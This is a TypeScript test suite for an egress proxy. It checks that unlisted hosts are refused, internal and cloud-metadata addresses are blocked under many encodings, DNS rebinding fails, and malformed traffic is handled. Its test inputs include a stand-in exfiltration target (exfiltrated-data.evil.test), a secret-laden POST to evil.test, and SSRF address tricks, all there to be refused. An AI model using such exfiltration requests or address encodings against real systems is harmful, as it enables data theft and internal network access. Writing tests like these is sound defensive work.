import { once } from 'node:events';
import { createServer as createHttpServer } from 'node:http';
import { connect, type Socket } from 'node:net';
import { failOnLeaks, within } from '@roundhouse/testkit';
import { afterEach, describe, expect, it } from 'vitest';
import type { Resolve } from '../../ports.ts';
import { ask, talk, tunnel } from '../../testing/door-client.ts';
import { startMirror, startTestProxy, type TestProxy } from '../../testing/egress.ts';
import { listen, startTcp } from '../../testing/servers.ts';

failOnLeaks();

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const clean of cleanups.splice(0).toReversed()) await clean();
});
function keep<T extends { close(): Promise<void> }>(server: T): T {
  cleanups.push(() => server.close());
  return server;
}
const startProxy = async (allow: string, resolve?: Resolve): Promise<TestProxy> =>
  keep(await startTestProxy(allow, resolve));

describe('what may not', () => {
  it('RL-13: what no rule allows is 403 with the rule that is missing, is not resolved, and is one line of the log', async () => {
    const proxy = await startProxy('allowed.test');
    const refused = await tunnel(proxy.socket, 'exfiltrated-data.evil.test:443');
    const line =
      'egress refused: no rule allows exfiltrated-data.evil.test:443; the operator can add exfiltrated-data.evil.test to ROUNDHOUSE_EGRESS_ALLOW';
    expect(refused).toMatchObject({ status: 403, body: `${line}\n` });
    const plain = await ask(proxy.socket, 'http://user:pw@evil.test:81/secret-path?token=abc', {
      method: 'POST',
      headers: { authorization: 'Bearer secret-token' },
      body: 'secret-body',
    });
    expect(plain).toMatchObject({ status: 403, body: expect.stringContaining('add evil.test:81 to') });
    expect(proxy.asked).toEqual([]);
    expect(proxy.lines).toMatchObject([
      { level: 30, host: 'exfiltrated-data.evil.test', port: 443 },
      { level: 30, host: 'evil.test', port: 81 },
    ]);
    expect(JSON.stringify(proxy.lines)).not.toMatch(/secret|token|pw/);
  });

  it('RL-14: a name that resolves to an address inside is 403, also under *, and nothing is dialled', async () => {
    const server = keep(await startMirror());
    const { port } = server;
    const proxy = await startProxy(`localhost:${port},*:${port}`);
    const hosts = ['localhost', '127.0.0.1', '127.1', '0x7f.1', '2130706433', '[::1]', '[::ffff:127.0.0.1]', '0.0.0.0'];
    for (const host of [...hosts, '169.254.169.254', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '[fd00::1]']) {
      const connected = await tunnel(proxy.socket, `${host}:${port}`);
      expect([host, connected.status]).toEqual([host, 403]);
      expect((await ask(proxy.socket, `http://${host}:${port}/`)).status).toBe(403);
    }
    const named = await tunnel(proxy.socket, `localhost:${port}`);
    expect(named.body).toContain(`add private:localhost:${port} to ROUNDHOUSE_EGRESS_ALLOW`);
    expect(server.taken()).toBe(0);
  });

  it('RL-14: of a name with addresses inside and reserved ones, private: opens the former only', async () => {
    const server = keep(await startMirror());
    const both = await startProxy(`private:mixed.lan:${server.port}`, async () => ['169.254.169.254', '127.0.0.1']);
    expect((await ask(both.socket, `http://mixed.lan:${server.port}/`)).status).toBe(200);
    const reserved = await startProxy(`private:meta.lan:${server.port}`, async () => ['169.254.169.254']);
    const answer = await ask(reserved.socket, `http://meta.lan:${server.port}/`);
    expect(answer).toMatchObject({ status: 403, body: expect.stringContaining('reserved address') });
    expect(answer.body).not.toContain('169.254');
  });

  it('RL-15: a name is resolved once, and the connection goes to the address that was judged', async () => {
    const server = keep(await startMirror());
    const answers = [['127.0.0.1'], ['192.0.2.1']];
    const proxy = await startProxy(`private:rebind.test:${server.port}`, async () => answers.shift() ?? []);
    expect((await ask(proxy.socket, `http://rebind.test:${server.port}/`)).status).toBe(200);
    expect(proxy.asked).toEqual(['rebind.test']);
    expect((await tunnel(proxy.socket, `rebind.test:${server.port}`)).status).toBe(403);
    expect(proxy.asked).toHaveLength(2);
  });

  it('RL-16: what is no proxy request is a 400, what cannot be reached a 502, and the proxy lives', async () => {
    const gone = await startMirror();
    await gone.close();
    const proxy = await startProxy(`*,no-such-name.invalid,127.0.0.1:${gone.port}`);
    for (const target of ['/path', 'https://a.test/', 'ftp://a.test/', '*', 'http://', 'http://a.test:99999/']) {
      expect([target, (await ask(proxy.socket, target)).status]).toEqual([target, 400]);
    }
    for (const authority of ['a.test', 'a.test:', ':443', 'a.test:0', 'a b:443', 'a.test:443/x']) {
      const answer = await talk(proxy.socket, `CONNECT ${authority} HTTP/1.1\r\nHost: x\r\n\r\n`);
      expect([authority, answer.slice(0, 12)]).toEqual([authority, 'HTTP/1.1 400']);
    }
    for (const nonsense of ['\0\0\0', 'GET\r\n\r\n', `GET / HTTP/1.1\r\nX: ${'x'.repeat(40_000)}\r\n\r\n`]) {
      expect(await talk(proxy.socket, nonsense)).toMatch(/^(HTTP\/1\.1 4\d\d |$)/);
    }
    expect(await tunnel(proxy.socket, 'no-such-name.invalid:443')).toMatchObject({
      status: 502,
      body: 'egress: no-such-name.invalid cannot be resolved\n',
    });
    expect(await ask(proxy.socket, `http://127.0.0.1:${gone.port}/`)).toMatchObject({ status: 502 });
    expect(await tunnel(proxy.socket, `127.0.0.1:${gone.port}`)).toMatchObject({ status: 502 });
  });

  it.each([
    ['words with control characters', 'HTTP/1.1 200 \u0001\u0002\r\nContent-Length: 2\r\n\r\nhi', 200],
    ['a status that is none', 'HTTP/1.1 099 Odd\r\nContent-Length: 0\r\n\r\n', 502],
    ['no HTTP', 'SSH-2.0-OpenSSH\r\n', 502],
    ['nothing', '', 502],
    ['another protocol', 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n', 502],
  ])('RL-16: a server that answers with %s does not harm the proxy', async (_, bytes, status) => {
    const server = keep(
      await startTcp((socket) => {
        socket.resume();
        socket.once('data', () => socket.end(bytes));
      }),
    );
    const proxy = await startProxy(`127.0.0.1:${server.port}`);
    const url = `http://127.0.0.1:${server.port}/`;
    const given = { method: 'POST', body: 'x'.repeat(300_000) };
    expect((await ask(proxy.socket, url, given)).status).toBe(status);
    expect((await ask(proxy.socket, url)).status).toBe(status);
    expect(proxy.lines.filter(({ level }) => Number(level) >= 50)).toEqual([]);
  });

  it('RL-16: an answer that breaks off does not look whole', async () => {
    const server = keep(
      await startTcp((socket) => {
        socket.once('data', () => {
          socket.write('HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf');
          setTimeout(() => socket.destroy(), 20);
        });
      }),
    );
    const proxy = await startProxy(`127.0.0.1:${server.port}`);
    await expect(ask(proxy.socket, `http://127.0.0.1:${server.port}/`)).rejects.toThrow('aborted');
  });

  it('RL-16: a client that goes away takes its connection to the outside with it', async () => {
    const http = createHttpServer();
    const server = keep(await listen(http));
    const proxy = await startProxy(`127.0.0.1:${server.port}`);
    const taken = once(http, 'connection');
    const client = connect(proxy.socket);
    client.write(`GET http://127.0.0.1:${server.port}/ HTTP/1.1\r\nHost: x\r\n\r\n`);
    const [far] = (await taken) as [Socket];
    const closed = once(far, 'close');
    client.destroy();
    await within(20_000, 'the end of the connection to the outside', closed);
  });

  it('RL-20: a loop of refused requests writes twenty lines a second, not thousands', async () => {
    const proxy = await startProxy('');
    const began = performance.now();
    for (let index = 0; index < 300; index += 1) await tunnel(proxy.socket, `a${index}.test:443`);
    const seconds = Math.ceil((performance.now() - began) / 1_000);
    expect(proxy.lines.length).toBeLessThanOrEqual(20 * (seconds + 1));
    expect(proxy.lines.length).toBeGreaterThanOrEqual(20);
  });
});
